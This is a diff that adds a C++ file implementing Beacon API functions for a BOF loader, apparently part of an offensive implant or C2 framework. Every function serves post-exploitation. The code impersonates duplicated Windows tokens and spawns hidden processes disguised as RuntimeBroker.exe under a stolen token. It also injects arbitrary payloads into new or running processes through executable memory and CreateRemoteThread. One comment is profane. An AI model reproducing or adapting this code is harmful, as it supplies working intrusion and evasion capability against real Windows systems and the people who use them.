@@ -0,0 +1,304 @@
+#include <beacon_api.hpp>
+
+//
+// Beacon API functions that need a real Windows token/process model.
+//
+
+/* Internal */
+static void manip_token(
+    _In_ const bool clear,
+    _In_ HANDLE token,
+    _Out_ HANDLE* out
+){
+    static HANDLE curr_token = nullptr;
+    if (clear) {
+        if (curr_token != nullptr) {
+            CloseHandle(curr_token);
+            curr_token = nullptr;
+        }
+    } else if (token != nullptr) {
+        curr_token = token;
+    } else if (out != nullptr) {
+        *out = curr_token;
+    }
+}
+
+HANDLE get_curr_token()
+{
+    HANDLE token = nullptr;
+    manip_token(false, nullptr, &token);
+    return token;
+}
+
+void set_curr_token(HANDLE token)
+{
+    if (!token || token == INVALID_HANDLE_VALUE) {
+        return;
+    }
+
+    manip_token(false, token, nullptr);
+}
+
+void clear_curr_token()
+{
+    manip_token(true, nullptr, nullptr);
+}
+
+/* used by BOFs */
+BOOL BeaconIsAdmin()
+{
+    HANDLE htoken = nullptr;
+    TOKEN_ELEVATION elevation = { 0 };
+    uint32_t bytes_needed = 0;
+
+    if (!OpenProcessToken(
+         GetCurrentProcess(),
+         TOKEN_QUERY,
+         &htoken
+    )) {
+        return FALSE;
+    }
+
+    if (!GetTokenInformation(
+         htoken,
+         TokenElevation,
+         &elevation,
+         sizeof(elevation),
+         reinterpret_cast<PDWORD>(&bytes_needed)
+    )) {
+        CloseHandle(htoken);
+        return FALSE;
+    }
+
+    CloseHandle(htoken);
+    return (elevation.TokenIsElevated != 0 ? TRUE : FALSE);
+}
+
+//
+// 1. Revert the current token to the original
+// 2. Duplicate the provided token to a primary token with SecurityDelegation
+// 3. Call ImpersonateLoggedOnUser to impersonate the new primary token
+//
+
+BOOL BeaconUseToken(HANDLE token)
+{
+    HANDLE hduplicate_token = nullptr;
+    BeaconRevertToken();
+
+    if (!DuplicateTokenEx(
+         token,
+         MAXIMUM_ALLOWED,
+         nullptr,
+         SecurityDelegation,
+         TokenPrimary,
+         &hduplicate_token
+    )) {
+        return FALSE;
+    }
+
+    if (!ImpersonateLoggedOnUser(hduplicate_token)) {
+        return FALSE;
+    }
+
+    set_curr_token(hduplicate_token);
+    return TRUE;
+}
+
+void BeaconRevertToken()
+{
+    clear_curr_token();
+    RevertToSelf();
+}
+
+void BeaconGetSpawnTo(BOOL x86, char* buffer, int length)
+{
+    wchar_t ext[] = L"\\System32\\RuntimeBroker.exe";
+    wchar_t windows_dir[MAX_PATH] = { 0 };
+    wchar_t final[MAX_PATH] = { 0 };
+    unsigned int len = 0;
+    unsigned int size = 0;
+
+    //-----------------------------------------------------------------//
+
+    if (x86) { // not supported
+        return;
+    }
+
+    len = GetWindowsDirectoryW(windows_dir, MAX_PATH);
+    if (!len) {
+        return;
+    }
+
+    //
+    // note: "len" will contain the length in characters, NOT in bytes.
+    //
+
+    memcpy(final, windows_dir, len * sizeof(wchar_t));
+    memcpy(&final[len], ext, sizeof(ext));
+
+    size = wcslen(final) * sizeof(wchar_t);
+    if (size > length) {
+        return;
+    }
+
+    memcpy(buffer, final, size);
+}
+
+BOOL BeaconSpawnTemporaryProcess(BOOL x86, BOOL ignoreToken, STARTUPINFO* si, PROCESS_INFORMATION* pInfo)
+{
+    HANDLE htoken = nullptr;
+    wchar_t path[MAX_PATH] = { 0 };
+
+    BeaconGetSpawnTo(FALSE, (char*)path, sizeof(path));
+    htoken = get_curr_token();
+
+    if (x86 || path[0] == L'\0' || (!ignoreToken && htoken == nullptr)) {
+        return FALSE;
+    }
+
+    if (ignoreToken) {
+        return CreateProcessW(
+            nullptr,
+            path,
+            nullptr,
+            nullptr,
+            TRUE,
+            CREATE_NO_WINDOW,
+            nullptr,
+            nullptr,
+            (LPSTARTUPINFOW)si,
+            pInfo);
+    }
+
+    return CreateProcessAsUserW(
+        htoken,
+        nullptr,
+        path,
+        nullptr,
+        nullptr,
+        TRUE,
+        CREATE_NO_WINDOW,
+        nullptr,
+        nullptr,
+        (LPSTARTUPINFOW)si,
+        pInfo
+    );
+}
+
+void BeaconInjectTemporaryProcess(
+    PROCESS_INFORMATION* pInfo,
+    char* payload,
+    int p_len,
+    int p_offset,
+    char* arg,
+    int a_len)
+{
+    char* remote_payload = nullptr;
+    char* remote_args = nullptr;
+    HANDLE hthread = nullptr;
+    size_t bytes_written = 0;
+
+    if (payload == nullptr || !p_len) {
+        return;
+    }
+
+    remote_payload = static_cast<char*>(VirtualAllocEx(
+        pInfo->hProcess,
+        nullptr,
+        p_len,
+        MEM_COMMIT | MEM_RESERVE,
+        PAGE_EXECUTE_READWRITE)
+    );
+
+    if (remote_payload == nullptr) {
+        return;
+    }
+
+    if (!WriteProcessMemory(
+         pInfo->hProcess,
+         remote_payload,
+         payload,
+         p_len,
+         &bytes_written)
+        || bytes_written != p_len)
+    {
+        return;
+    }
+
+    if (arg != nullptr && a_len) {
+        remote_args = static_cast<char*>(VirtualAllocEx(
+            pInfo->hProcess,
+            nullptr,
+            a_len,
+            MEM_COMMIT | MEM_RESERVE,
+            PAGE_EXECUTE_READWRITE
+        ));
+
+        if (remote_args == nullptr) {
+            return;
+        }
+
+        bytes_written = 0;
+        if (!WriteProcessMemory(
+             pInfo->hProcess,
+             remote_args,
+             arg,
+             a_len,
+             &bytes_written)
+            || bytes_written != a_len)
+        {
+            return;
+        }
+    }
+
+    //
+    // this is a random ass fork & run BOF function nobody should use anyways,
+    // so frankly I don't give a flying fuck
+    //
+    hthread = CreateRemoteThread(
+        pInfo->hProcess,
+        nullptr,
+        0,
+        (LPTHREAD_START_ROUTINE)(remote_payload + p_offset),
+        remote_args,
+        0,
+        nullptr
+    );
+
+    if (hthread != nullptr) {
+        CloseHandle(hthread);
+    }
+}
+
+void BeaconInjectProcess(
+    HANDLE hProc,
+    int pid,
+    char* payload,
+    int p_len,
+    int p_offset,
+    char* arg,
+    int a_len
+) {
+    if (hProc == nullptr) {
+        hProc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
+        if (hProc == nullptr) {
+            return;
+        }
+    }
+
+    PROCESS_INFORMATION proc_info = { 0 };
+    proc_info.hProcess = hProc;
+    proc_info.dwProcessId = pid;
+
+    BeaconInjectTemporaryProcess(&proc_info, payload, p_len, p_offset, arg, a_len);
+}
+
+void BeaconCleanupProcess(PROCESS_INFORMATION* pInfo)
+{
+    if (pInfo->hProcess != nullptr) {
+        CloseHandle(pInfo->hProcess);
+    }
+    if (pInfo->hThread != nullptr) {
+        CloseHandle(pInfo->hThread);
+    }
+}